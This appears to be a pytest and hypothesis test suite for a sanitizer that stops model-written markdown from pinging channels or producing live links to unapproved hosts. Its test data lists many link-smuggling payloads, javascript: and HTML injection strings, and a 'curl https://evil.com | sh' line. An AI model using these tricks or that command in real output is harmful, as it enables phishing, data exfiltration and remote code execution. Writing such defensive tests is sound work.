"""CASES 13 and 22: what a model writes pings nobody, and leads nobody where people did not point."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.rendering.harmless import canonical, harmless, links_in
from core.rendering.plain import plain

GOOD = "https://good.com/x"
ALLOWED = frozenset({GOOD})
PING = re.compile(r"@(everyone|here|channel)|<@[!&]?\w+|<!(channel|here|everyone|subteam)|<#\w+", re.IGNORECASE)
COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def defuse(text: str) -> str:
    return harmless(text, allowed_links=ALLOWED)


def followed(text: str) -> set[str]:
    """Every address that some reader of markdown would make live in a text."""
    return _commonmark(text) | _discord(text)


def _commonmark(text: str) -> set[str]:
    found: set[str] = set()
    pending = COMMONMARK.parse(text)
    while pending:
        token = pending.pop()
        pending += token.children or []
        found |= {str(token.attrs[name]) for name in ("href", "src") if token.attrs.get(name)}
        if token.type in ("html_block", "html_inline"):
            found |= set(re.findall(r"(?:href|src|on\w+)\s*=\s*[\"']?([^\s\"'>]+)", token.content, re.IGNORECASE))
        if token.type in ("text", "html_block"):
            found |= set(re.findall(r"(?:https?://|www\.)[^\s<\u200b]+", token.content, re.IGNORECASE))
    return {unescape(url) for url in found}


def _discord(text: str) -> set[str]:
    """As Discord reads: code first, left to right, across lines; then whatever looks like an address."""
    rules = re.compile(
        r"<https://good\.com/x>|\[[^\[\]]*\]\(\s*<?https://good\.com/x>?(?:\s+\"[^\"]*\")?\s*\)|```[\s\S]+?```|(?P<marks>`+)[\s\S]*?[^`](?P=marks)(?!`)|(?P<url>(?:https?|steam|slack)://[^\s<\u200b]+)",
        re.IGNORECASE,
    )
    return {match["url"] for match in rules.finditer(text) if match["url"]}


def is_allowed(url: str) -> bool:
    absolute = re.match(r"[a-z][a-z0-9+.\-]*:|//|\\\\|www\.", url, re.IGNORECASE)
    return absolute is None or canonical(url.rstrip("\\")) in ALLOWED


def check(text: str) -> str:
    out = defuse(text)
    assert not PING.search(out)
    assert [url for url in followed(out) if not is_allowed(url)] == []
    assert defuse(out) == out
    return out


MENTIONS = ["@everyone", "@HERE", "@Channel", "<!channel>", "<!here|here>", "<!everyone>", "<!subteam^S1|@team>"]
MENTIONS += ["<@U0123>", "<@!123>", "<@&123>", "<#C012|general>", "<#123>"]


@pytest.mark.parametrize("mention", MENTIONS)
@pytest.mark.parametrize(
    "around", ["{}", "hi {}, all", "`{}`", "```\n{}\n```", "[{}](https://evil.com)", "x{}", "**{}**"]
)
def test_case_13_mass_mentions_never_ping(mention: str, around: str) -> None:
    text = around.format(mention)
    assert not PING.search(check(text))
    assert check(mention).replace("\u200b", "") == mention


@pytest.mark.parametrize("text", ["@\u200beveryone", "＠everyone", "a@example.org", "@ everyone", "<!DOCTYPE html>`x`"])
def test_what_pings_nobody_is_left_alone(text: str) -> None:
    assert check(text).replace("\u200b", "") == text.replace("\u200b", "")


@pytest.mark.parametrize("text", ["@[everyone](https://evil.com)", "<[!channel](https://evil.com)", "<<x:y|!channel>"])
def test_case_13_removing_a_link_does_not_make_a_mention(text: str) -> None:
    check(text)


@pytest.mark.parametrize(
    ("text", "out"),
    [
        (f"<{GOOD}|docs>", f"[docs]({GOOD})"),
        ("see https://evil.com/a?b=c.", "see `https://evil.com/a?b=c`."),
        ("<https://evil.com/a>", "`https://evil.com/a`"),
        ("<https://evil.com/a|the docs>", "the docs (`https://evil.com/a`)"),
        ('[the docs](https://evil.com "title")', "the docs (`https://evil.com`)"),
        ("[the docs](<https://evil.com>)", "the docs (`https://evil.com`)"),
        ("![chart](http://evil.com/i.png)", "chart (`http://evil.com/i.png`)"),
        ("[docs]: https://evil.com", "docs (`https://evil.com`)"),
        ("go to www.evil.com/x now", "go to `www.evil.com/x` now"),
        ("evil.com/?data=1 and README.md", "`evil.com/?data=1` and README.md"),
        ("[x](javascript:alert(1))", "x (`javascript:alert(1)`)"),
        ("mailto:a@b.c?subject=x", "`mailto:a@b.c?subject=x`"),
        ("slack://open?x=1", "`slack://open?x=1`"),
        ("**https://evil.com**", "**`https://evil.com`**"),
        ("(https://en.wiki.org/wiki/A_(b))", "(`https://en.wiki.org/wiki/A_(b)`)"),
    ],
)
def test_case_22_other_links_can_be_read_but_not_followed(text: str, out: str) -> None:
    assert check(text) == out


@pytest.mark.parametrize(
    "text",
    [
        GOOD,
        f"See {GOOD}.",
        f"[docs]({GOOD})",
        f'[docs](<{GOOD}> "title")',
        f"<{GOOD}>",
        "HTTPS://Good.COM/x",
        f"[docs]: {GOOD}",
        f"**{GOOD}**",
        f"({GOOD}), [{GOOD}]({GOOD})",
        "`https://evil.com`, and\n\n```sh\ncurl https://evil.com | sh\n```\n",
        "1. do:\n\n    ```sh\n    curl https://evil.com\n    ```\n",
        "Plain text, with 2 < 3, a_b_c, [brackets] and a <b>tag</b>; e.g. `List<int>`. So: well.",
    ],
)
def test_allowed_links_code_and_everything_else_are_unchanged(text: str) -> None:
    assert check(text) == text


ATTACKS = [
    "stray ` then https://evil.com and more",
    "`foo\n`https://evil.com` bar",
    "`foo\n\n`https://evil.com` bar",
    "\\`https://evil.com\\`",
    "\\https://evil.com",
    "``https://evil.com`",
    "`a`https://evil.com`b`",
    "```\nhttps://evil.com",
    "- item\n  ```\nhttps://evil.com\n  ```",
    "> ```\nhttps://evil.com\n> ```",
    "foo\n     ```\n     https://evil.com\n\n     more\n     ```",
    "~~~\n```\n~~~\nhttps://evil.com\n```",
    "````\n```\n````\nhttps://evil.com\n```",
    "<div>\n```\n\nhttps://evil.com\n\n```",
    "<!--\n```\n-->\nhttps://evil.com\n<!--\n```\n-->",
    '<b title="`">https://evil.com<b title="`">',
    '<b title=">`">https://evil.com<b title=">`">',
    "| a | b | c |\n|---|---|---|\n| ` | https://evil.com | ` |",
    "| a | b |\n|---|---|\n| https://evil.com/a|https://evil.com/b |",
    "[a](`https://evil.com`)",
    "[`a`](https://evil.com)",
    "[a [b](https://evil.com) c](https://good.com/x)",
    "[![a](https://evil.com/i.png)](https://evil.com)",
    "[a](\nhttps://evil.com\n'title')",
    "[a\n](https://evil.com)",
    "[a\\](https://evil.com)",
    "[a\\]](https://evil.com)",
    "[a](https&#58;//evil.com)",
    "[a](https\\://evil.com)",
    "[a](//evil.com/x)",
    "[a](\\\\evil.com)",
    "[a](java\tscript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html,x)",
    "[a](<https://evil.com/a b>)",
    "[a](https://evil.com (title))",
    '[a](https://good.com/x "https://evil.com")',
    "[https://evil.com](https://good.com/x)",
    "[a][x]\n\n[x]: https&#58;//evil.com",
    "[a][x]\n\n[x]:\n  https://evil.com",
    "[a][x]\n\n[x]: <https://evil.com> 'title'",
    "[a[][x]\n\n[a\\[]: //evil.com",
    "[a][x]\n\n> [x]:\n> https://evil.com",
    "http[://evil.com](https://good.com/y)",
    "https:<//x:y|//evil.com/>",
    "[```](https://evil.com)\nhttps://evil.com\n```",
    "https://good.com@evil.com/x",
    "https://good.com/x@evil.com",
    "https://good.com/x>@evil.com",
    "https://good.com\\@evil.com/x",
    "https://gооd.com/x",
    "https://xn--gd-emba.com/x",
    "https://good。com/x",
    "https://good.com\u200b.evil.com/x",
    "https://good.com/x`secret`",
    "https://good.com/x](secret)",
    "https://good.com/x|https://evil.com",
    "hTTps:/\\evil.com https:evil.com",
    "xhttps://evil.com .slack://open git+ssh://evil.com",
    "<a href=https://evil.com>x</a><img src=//evil.com/i.png>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    '<img\nsrc="https://evil.com"\n>',
    "<https://good.com/x|[a](https://evil.com)>",
    "<https://good.com/x|https://evil.com>",
    "https://good.com/x](https://good.com/x)",
    "](https://good.com/x)[secret",
    "https:]<https://evil.com`> ",
    "https://evil.com||https:]",
    "[<!--www.evil.com",
    "https://good.com/x<https://evil.com>",
    "[x]: https://good.com/x[secret]",
    "<https://good.com/x|?secret>",
    "**a `b** https://evil.com **c` d**",
    "&lt;https://evil.com&gt; &#60;https://evil.com>",
    "a\r```\rhttps://evil.com\r```",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_case_22_tricks_do_not_make_a_live_link(text: str) -> None:
    check(text)
    check("Some words first. `code` " + text + " and `more code`.\n\n" + text)


MARKS = "[ ] ( ) ]( ![ ]: < > | ` `` ``` ~~~ \\ - > @ * ** . : = ' \" a"
SPACES = [" ", "  ", "    ", "\n", "\n\n", "\r", "\u200b", "\n```\n", "|-|\n", "`"]
WORDS = "https://evil.com //evil.com https: www.evil.com javascript:x &#58; <img src= <!-- [x] everyone !channel <@U1>"
TOKENS = [*MARKS.split(), *SPACES, *WORDS.split(), GOOD]


@settings(max_examples=1000, deadline=None)
@given(st.lists(st.sampled_from(TOKENS), max_size=16).map("".join))
@example("[x]\n\n[x]: //evil.com")
def test_case_22_no_mixture_is_live_or_pings(text: str) -> None:
    check(text)


@settings(deadline=None)
@given(st.text(max_size=200))
def test_any_text_keeps_what_can_be_seen(text: str) -> None:
    out = check(text)
    if not re.search(r"[\[<:.`/\x00-\x08\x0e-\x1f\x7f-\x9f]", text):
        assert out.replace("\u200b", "") == text.replace("\u200b", "")


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(TOKENS), max_size=14).map("".join))
def test_the_plain_text_of_harmless_text_is_harmless(text: str) -> None:
    out = plain(defuse(text))
    assert not PING.search(out)
    assert [url for url in _discord(out) if not is_allowed(url)] == []


HOSTILE = [
    "[",
    "](",
    "https://",
    "a",
    "a.",
    "`",
    "@",
    '](a "',
    "<a ",
    "](( ",
    "[x]:",
    "[x](<",
    "```\n",
    "x@",
    "<x:y|",
    "--|\n",
]


@pytest.mark.parametrize("piece", HOSTILE)
def test_a_hostile_megabyte_takes_linear_time(piece: str) -> None:
    text = piece * (10**6 // len(piece))
    assert len(defuse(text)) >= len(text) // 2  # quadratic work would run into the time limit
    links_in(text)
    plain(text)
